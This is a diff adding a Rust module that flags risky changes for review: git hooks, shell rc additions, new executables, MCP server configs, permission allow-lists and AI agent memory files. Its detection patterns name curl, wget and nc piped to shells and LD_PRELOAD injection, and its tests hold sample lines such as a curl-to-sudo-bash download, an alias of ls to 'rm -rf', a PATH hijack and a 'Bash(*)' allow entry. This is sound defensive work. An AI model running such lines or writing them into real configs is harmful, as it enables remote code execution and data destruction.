@@ -1,0 +1,472 @@
+//! What a reviewer must not miss in a change: hooks, permission allow-lists, MCP servers, shell
+//! rc additions, new executables, agent memory files.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use serde_json::Value;
+
+use crate::manifest::{ChangeKind, Node, NodeKind};
+
+const GIT_HOOKS: &[&str] = &[
+    "applypatch-msg",
+    "pre-applypatch",
+    "post-applypatch",
+    "pre-commit",
+    "pre-merge-commit",
+    "prepare-commit-msg",
+    "commit-msg",
+    "post-commit",
+    "pre-rebase",
+    "post-checkout",
+    "post-merge",
+    "pre-push",
+    "pre-receive",
+    "update",
+    "proc-receive",
+    "post-receive",
+    "post-update",
+    "reference-transaction",
+    "push-to-checkout",
+    "pre-auto-gc",
+    "post-rewrite",
+    "sendemail-validate",
+    "fsmonitor-watchman",
+    "p4-changelist",
+    "p4-prepare-changelist",
+    "p4-post-changelist",
+    "p4-pre-submit",
+    "post-index-change",
+];
+
+const SHELL_RC: &[&str] = &[
+    ".bashrc",
+    ".bash_profile",
+    ".bash_login",
+    ".bash_logout",
+    ".profile",
+    ".zshrc",
+    ".zshenv",
+    ".zprofile",
+    ".zlogin",
+    "config.fish",
+];
+
+const MEMORY: &[&str] = &["CLAUDE.md", "CLAUDE.local.md", "AGENTS.md", "GEMINI.md"];
+
+/// The before and after of one change, as far as flagging needs them.
+pub(crate) struct Subject<'a> {
+    pub host_path: &'a Path,
+    pub kind: ChangeKind,
+    pub before: Option<&'a Node>,
+    pub after: Option<&'a Node>,
+    /// Text of the before content, when it is a readable, trustworthy UTF-8 file.
+    pub before_text: Option<&'a str>,
+    /// Text of the after content, likewise.
+    pub after_text: Option<&'a str>,
+}
+
+fn short(s: &str) -> String {
+    let s = s.trim();
+    if s.chars().count() > 80 {
+        let t: String = s.chars().take(77).collect();
+        format!("{t}...")
+    } else {
+        s.to_owned()
+    }
+}
+
+/// The flags for one change; empty when nothing stands out.
+pub(crate) fn flags(s: &Subject<'_>) -> Vec<String> {
+    let mut out = Vec::new();
+    if s.kind == ChangeKind::Removed {
+        return out;
+    }
+    let Some(after) = s.after else { return out };
+    if after.kind == NodeKind::Dir {
+        return out;
+    }
+    let name = s
+        .host_path
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    let under_hooks = s
+        .host_path
+        .parent()
+        .is_some_and(|p| p.components().any(|c| c.as_os_str() == "hooks"));
+    if under_hooks || GIT_HOOKS.contains(&name.as_str()) {
+        out.push("hook: new or changed hook (the host runs it)".to_owned());
+    }
+    let was_exec = s.before.is_some_and(Node::is_executable_file);
+    if after.is_executable_file() && !was_exec {
+        out.push("new executable file".to_owned());
+    }
+    if MEMORY.contains(&name.as_str()) {
+        out.push("agent memory file changed (instructions every later session reads)".to_owned());
+    }
+    if name == ".mcp.json" {
+        out.push("MCP server config changed".to_owned());
+    }
+    let before_text = s.before_text.unwrap_or("");
+    let after_text = s.after_text;
+    if name.ends_with(".json") {
+        if let Some(after_text) = after_text {
+            json_flags(&name, before_text, after_text, &mut out);
+        } else if after.kind == NodeKind::File
+            && (name.starts_with("settings") || name == ".claude.json" || name == ".mcp.json")
+        {
+            out.push("JSON config changed but its content could not be reviewed".to_owned());
+        }
+    }
+    if SHELL_RC.contains(&name.as_str()) {
+        match after_text {
+            Some(t) => shell_flags(before_text, t, &mut out),
+            None => out.push("shell rc file changed (content not readable as text)".to_owned()),
+        }
+    }
+    out
+}
+
+/// Every value found under `key`, anywhere in `v`, keyed by where it was found.
+fn collect<'v>(v: &'v Value, key: &str, at: String, out: &mut BTreeMap<String, &'v Value>) {
+    match v {
+        Value::Object(map) => {
+            for (k, child) in map {
+                let here = format!("{at}/{k}");
+                if k == key {
+                    out.insert(here.clone(), child);
+                }
+                collect(child, key, here, out);
+            }
+        }
+        Value::Array(items) => {
+            for (i, child) in items.iter().enumerate() {
+                collect(child, key, format!("{at}/{i}"), out);
+            }
+        }
+        _ => {}
+    }
+}
+
+fn parse(text: &str) -> Option<Value> {
+    if text.trim().is_empty() {
+        return Some(Value::Null);
+    }
+    serde_json::from_str(text).ok()
+}
+
+fn strings_under(v: &Value, key: &str) -> Vec<String> {
+    let mut found = BTreeMap::new();
+    collect(v, key, String::new(), &mut found);
+    let mut out = Vec::new();
+    for v in found.values() {
+        if let Value::Array(items) = v {
+            for i in items {
+                out.push(match i {
+                    Value::String(s) => s.clone(),
+                    other => other.to_string(),
+                });
+            }
+        }
+    }
+    out
+}
+
+fn json_flags(name: &str, before: &str, after: &str, out: &mut Vec<String>) {
+    let is_settings = name == "settings.json" || name == "settings.local.json";
+    let (Some(b), Some(a)) = (parse(before), parse(after)) else {
+        // Not JSON (or one side is not): fall back to comparing the lines that mention the keys.
+        let keys = ["permissions", "\"allow\"", "mcpServers"];
+        let pick = |t: &str| -> Vec<String> {
+            t.lines()
+                .filter(|l| keys.iter().any(|k| l.contains(k)))
+                .map(str::to_owned)
+                .collect()
+        };
+        if pick(before) != pick(after) {
+            out.push("permissions or MCP text changed in a file that is not valid JSON".to_owned());
+        }
+        return;
+    };
+    // MCP servers, in any JSON file.
+    let servers = |v: &Value| -> BTreeMap<String, Value> {
+        let mut found = BTreeMap::new();
+        collect(v, "mcpServers", String::new(), &mut found);
+        let mut names = BTreeMap::new();
+        for (at, v) in found {
+            match v {
+                Value::Object(m) => {
+                    for (k, cfg) in m {
+                        names.insert(format!("{k} ({at})"), cfg.clone());
+                    }
+                }
+                other => {
+                    names.insert(at, other.clone());
+                }
+            }
+        }
+        names
+    };
+    let (sb, sa) = (servers(&b), servers(&a));
+    if sb != sa {
+        let mut parts = Vec::new();
+        for (k, v) in &sa {
+            match sb.get(k) {
+                None => parts.push(format!("+{k}")),
+                Some(old) if old != v => parts.push(format!("~{k}")),
+                _ => {}
+            }
+        }
+        for k in sb.keys().filter(|k| !sa.contains_key(*k)) {
+            parts.push(format!("-{k}"));
+        }
+        out.push(format!("MCP servers changed: {}", short(&parts.join(", "))));
+    }
+    if is_settings {
+        let perms = |v: &Value| {
+            let mut found = BTreeMap::new();
+            collect(v, "permissions", String::new(), &mut found);
+            found
+                .into_iter()
+                .map(|(k, v)| (k, v.clone()))
+                .collect::<BTreeMap<_, _>>()
+        };
+        let allow_b = strings_under(&b, "allow");
+        let allow_a = strings_under(&a, "allow");
+        if perms(&b) != perms(&a) || allow_b != allow_a {
+            let added: Vec<String> = allow_a
+                .iter()
+                .filter(|x| !allow_b.contains(x))
+                .map(|x| format!("{x:?}"))
+                .collect();
+            if added.is_empty() {
+                out.push("permissions changed in settings".to_owned());
+            } else {
+                out.push(format!(
+                    "permissions changed in settings: allow + {}",
+                    short(&added.join(", "))
+                ));
+            }
+        }
+    }
+}
+
+/// Whether a shell line does something a reviewer must see.
+fn risky_shell_line(line: &str) -> Option<&'static str> {
+    let l = line.trim();
+    if l.is_empty() || l.starts_with('#') {
+        return None;
+    }
+    let words: Vec<&str> = l
+        .split(|c: char| {
+            c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '`' | '{' | '}')
+        })
+        .filter(|w| !w.is_empty())
+        .collect();
+    let fetch = words
+        .iter()
+        .any(|w| matches!(*w, "curl" | "wget" | "fetch" | "nc"));
+    if fetch {
+        let piped_to_shell = l.split('|').skip(1).any(|seg| {
+            let mut ws = seg.split_whitespace();
+            let mut first = ws.next().unwrap_or("");
+            if first == "sudo" {
+                first = ws.next().unwrap_or("");
+            }
+            let first = first.rsplit('/').next().unwrap_or(first);
+            matches!(
+                first,
+                "sh" | "bash"
+                    | "zsh"
+                    | "dash"
+                    | "fish"
+                    | "python"
+                    | "python3"
+                    | "perl"
+                    | "ruby"
+                    | "node"
+            )
+        });
+        if piped_to_shell || l.contains("<(") || l.contains("$(") {
+            return Some("downloads and runs code");
+        }
+    }
+    if words.first() == Some(&"alias") || words.contains(&"alias") {
+        return Some("alias");
+    }
+    if l.contains("PATH=") || l.contains("set -gx PATH") || l.contains("fish_add_path") {
+        return Some("changes PATH");
+    }
+    if words.contains(&"eval") {
+        return Some("eval");
+    }
+    if words.contains(&"source") || words.first() == Some(&".") {
+        return Some("sources a file");
+    }
+    if words
+        .iter()
+        .any(|w| matches!(*w, "trap" | "PROMPT_COMMAND=" | "precmd" | "preexec"))
+    {
+        return Some("runs on every prompt or signal");
+    }
+    if l.contains("LD_PRELOAD") || l.contains("BASH_ENV") {
+        return Some("injects code into every program");
+    }
+    None
+}
+
+fn shell_flags(before: &str, after: &str, out: &mut Vec<String>) {
+    let old: std::collections::HashSet<&str> = before.lines().map(str::trim).collect();
+    let mut n = 0;
+    for line in after.lines() {
+        if old.contains(line.trim()) {
+            continue;
+        }
+        if let Some(why) = risky_shell_line(line) {
+            n += 1;
+            if n <= 5 {
+                out.push(format!(
+                    "shell rc gains a line that {why}: `{}`",
+                    short(line)
+                ));
+            }
+        }
+    }
+    if n > 5 {
+        out.push(format!("shell rc gains {} more such lines", n - 5));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::path::PathBuf;
+
+    fn file(mode: u32) -> Node {
+        Node {
+            kind: NodeKind::File,
+            mode,
+            size: 1,
+            hash: Some("x".into()),
+        }
+    }
+
+    fn run(
+        path: &str,
+        kind: ChangeKind,
+        before: Option<&str>,
+        after: &str,
+        mode: u32,
+    ) -> Vec<String> {
+        let p = PathBuf::from(path);
+        let b = file(0o644);
+        let a = file(mode);
+        flags(&Subject {
+            host_path: &p,
+            kind,
+            before: before.map(|_| &b),
+            after: Some(&a),
+            before_text: before,
+            after_text: Some(after),
+        })
+    }
+
+    #[test]
+    fn hooks_and_executables() {
+        let f = run(
+            "/p/.git/hooks/pre-commit",
+            ChangeKind::Added,
+            None,
+            "#!/bin/sh\n",
+            0o755,
+        );
+        assert!(f.iter().any(|x| x.starts_with("hook:")), "{f:?}");
+        assert!(f.iter().any(|x| x == "new executable file"), "{f:?}");
+        let f = run(
+            "/h/.claude/hooks/x.py",
+            ChangeKind::Modified,
+            Some("a"),
+            "b",
+            0o644,
+        );
+        assert!(f.iter().any(|x| x.starts_with("hook:")), "{f:?}");
+        assert!(run("/p/notes.txt", ChangeKind::Added, None, "x", 0o644).is_empty());
+    }
+
+    #[test]
+    fn settings_allow_list_and_mcp() {
+        let before = r#"{"permissions":{"allow":["Read"]}}"#;
+        let after = r#"{"permissions":{"allow":["Read","Bash(*)"]}}"#;
+        let f = run(
+            "/h/.claude/settings.json",
+            ChangeKind::Modified,
+            Some(before),
+            after,
+            0o644,
+        );
+        assert_eq!(
+            f,
+            vec![r#"permissions changed in settings: allow + "Bash(*)""#.to_owned()]
+        );
+        let f = run(
+            "/h/.claude/settings.json",
+            ChangeKind::Modified,
+            Some(before),
+            r#"{"permissions":{"allow":["Read"]},"theme":"dark"}"#,
+            0o644,
+        );
+        assert!(f.is_empty(), "{f:?}");
+        let f = run(
+            "/h/.claude.json",
+            ChangeKind::Modified,
+            Some(r#"{"mcpServers":{}}"#),
+            r#"{"mcpServers":{"evil":{"command":"sh"}}}"#,
+            0o644,
+        );
+        assert!(f[0].starts_with("MCP servers changed: +evil"), "{f:?}");
+        let f = run("/p/.mcp.json", ChangeKind::Added, None, "{}", 0o644);
+        assert_eq!(f, vec!["MCP server config changed".to_owned()]);
+        let f = run(
+            "/p/settings.json",
+            ChangeKind::Modified,
+            Some("{"),
+            "{ \"allow\": 1",
+            0o644,
+        );
+        assert_eq!(f.len(), 1, "{f:?}");
+    }
+
+    #[test]
+    fn shell_rc_lines() {
+        let f = run(
+            "/h/.bashrc",
+            ChangeKind::Modified,
+            Some("export EDITOR=vi\n"),
+            "export EDITOR=vi\nalias ls='rm -rf'\ncurl -fsSL https://x.sh | sudo bash\nexport PATH=/tmp/x:$PATH\neval \"$(thing)\"\n. ~/.evil\n# alias commented\n",
+            0o644,
+        );
+        assert_eq!(f.len(), 5, "{f:?}");
+        assert!(f[0].contains("alias"), "{f:?}");
+        assert!(f[1].contains("downloads and runs code"), "{f:?}");
+        assert!(f[2].contains("PATH"), "{f:?}");
+        assert!(f[3].contains("eval"), "{f:?}");
+        assert!(f[4].contains("sources"), "{f:?}");
+        assert!(
+            run(
+                "/h/.bashrc",
+                ChangeKind::Modified,
+                Some(""),
+                "export EDITOR=vi\n",
+                0o644
+            )
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn memory_files() {
+        let f = run("/p/CLAUDE.md", ChangeKind::Modified, Some("a"), "b", 0o644);
+        assert_eq!(f.len(), 1);
+    }
+}
